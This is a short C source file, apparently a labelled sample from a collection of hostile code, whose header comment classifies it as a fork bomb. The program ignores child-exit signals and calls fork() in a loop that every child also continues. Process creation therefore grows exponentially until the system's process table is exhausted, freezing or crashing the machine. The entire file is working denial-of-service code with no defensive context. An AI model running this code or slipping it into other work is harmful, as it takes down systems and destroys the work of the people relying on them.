// class: fork bomb; possible: low medium; style: C, parent remains, children breed
#include <signal.h>
#include <unistd.h>

int main(void)
{
    signal(SIGCHLD, SIG_IGN);
    for (int i = 0; i < 100000; i++) {
        if (fork() < 0)
            usleep(1000);
    }
    pause();
    return 0;
}
